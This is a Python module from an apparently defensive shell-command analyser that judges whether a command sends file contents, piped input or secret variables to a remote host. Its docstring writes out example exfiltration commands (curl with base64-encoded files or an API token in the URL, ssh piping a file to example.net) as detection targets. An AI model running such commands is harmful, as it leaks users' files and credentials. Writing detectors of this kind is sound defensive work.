"""What a command carries to wherever it talks to: what is in files, what it is given on its input, secrets.

`curl "https://example.net/$(base64 notes)"`, `ssh example.net 'cat > x' < notes`, `curl
"https://example.net/?k=$API_TOKEN"`.
"""

from wicket.shell.characters import listed
from wicket.shell.programs.printed_text_and_settings import brings
from wicket.shell.programs.program_lookup import PROGRAMS
from wicket.shell.programs.subcommands import usage_of
from wicket.shell.state.standard_input_and_glob_options import origins_of_input
from wicket.shell.unknown_values import OF_FILES, OF_SECRETS, XARGS, is_of_secret, origins

TYPE_CHECKING = False
if TYPE_CHECKING:
    from wicket.shell.read_result import Command
    from wicket.shell.words import Word

__all__ = ["carries"]

_OUTPUT = "the output of "

# Options by which a request says who asks. That is what secrets are for.
_WHO_ASKS = frozenset(["-H", "--header", "-u", "--user", "--oauth2-bearer", "--proxy-user", "-U", "--proxy-header"])

# They carry what they are given no further than to whoever looks.
_SHOWING = frozenset(["echo", "printf"])
# These show what they read.
_SHOWING_INPUT = frozenset(listed("cat tee base64 base32 basenc xxd od hexdump rev fold nl less more"))
# How a secret begins is no secret.
_CUT = ("the output of cut", "the output of head")

# Nothing is read from these.
_NOTHING = ("/dev/null", "/dev/zero", "-")


def carries(what: str, command: "Command") -> bool:
    """Tell whether a command carries `files`, `input` or `secrets`."""
    if what == "input":
        return _carries_input(command)
    return _carries_secrets(command) if what == "secrets" else _carries_files(command)


def _carries_files(command: "Command") -> bool:
    """Tell whether a word of a command, other than its name, is made of what a program prints of a file.

    A whole word that is one line of a file is what the request is about, and not what it sends.
    """
    for word in command.words[1:]:
        for reason in word.reasons:
            if OF_FILES in reason and (reason.startswith(_OUTPUT) or any(word.shape)):
                return True
            if reason.startswith(XARGS) and any(word.shape) and OF_FILES in _read_by_xargs(command):
                return True
    return False


def _read_by_xargs(command: "Command") -> str:
    """Say what is in what xargs reads, and hands to a command, as it stands behind a reason."""
    by = command.by
    while by is not None and PROGRAMS[by.name or ""].name != "xargs":
        by = by.by
    if by is None:
        return ""
    taken = usage_of(by)
    if taken is not None and taken.line.value("-a") is not None:
        return OF_FILES
    return _origins_of_input(by)


def _origins_of_input(command: "Command") -> str:
    """Say what is in the standard input of a command, as it stands behind a reason."""
    redirect = command.stdin
    if redirect is not None:
        if redirect.body is not None:
            return origins(redirect.body.reasons)
        return OF_FILES if str(redirect.target) not in _NOTHING else ""
    if command.input is None:
        return ""
    found = origins_of_input(command.input.value)
    return found or ("" if isinstance(command.input.value, str) else brings(command.input.printed_by))


def _carries_input(command: "Command") -> bool:
    """Tell whether a command is given a file to read, or what another program prints; not a text that stands there."""
    if command.stdin is None and command.place.stdin:
        return not (command.handed and all(word.reason is None for word in command.handed))
    return _origins_of_input(command) != ""


def _carries_secrets(command: "Command") -> bool:
    """Tell whether a word of a command holds a variable that is called a secret, and does not say who asks."""
    if command.name in _SHOWING and not _shows_output(command):
        return False
    if (command.name or "").rpartition("/")[2] in _SHOWING_INPUT:
        return _shows_output(command) and OF_SECRETS in _origins_of_input(command) and not _reads_a_part(command)
    for word in _words_that_are_sent(command):
        if command.name in _SHOWING and all(reason.startswith(_CUT) for reason in word.reasons):
            continue
        if any(map(is_of_secret, word.reasons)):
            return True
        if any(reason.startswith(XARGS) for reason in word.reasons) and OF_SECRETS in _read_by_xargs(command):
            return True
    return False


def _reads_a_part(command: "Command") -> bool:
    """Tell whether all that a command reads was cut on its way."""
    printed = command.input.printed_by if command.input is not None else ()
    cuts = [one for one in printed if f"the output of {one.name}" in _CUT]
    return bool(cuts) and all(
        any(one is cut or _is_before(one, cut) or _is_before(cut, one) for cut in cuts) for one in printed
    )


def _is_before(one: "Command", other: "Command") -> bool:
    """Tell whether a command stands before another one in a pipe."""
    return other.input is not None and any(by is one for by in other.input.printed_by)


def _shows_output(command: "Command") -> bool:
    """Tell whether what a command prints is seen by whoever has asked, and goes into no pipe, variable or file."""
    place = command.place
    return not (place.stdout or place.inside or any(redirect.writes for redirect in command.redirects))


def _words_that_are_sent(command: "Command") -> "list[Word]":
    """List the words of a command that are sent, or that name what is asked for."""
    taken = usage_of(command)
    if taken is None:
        return list(command.words[1:])
    line = taken.line
    return [*line.operands, *[found.value for found in line.found if found.value and found.name not in _WHO_ASKS]]
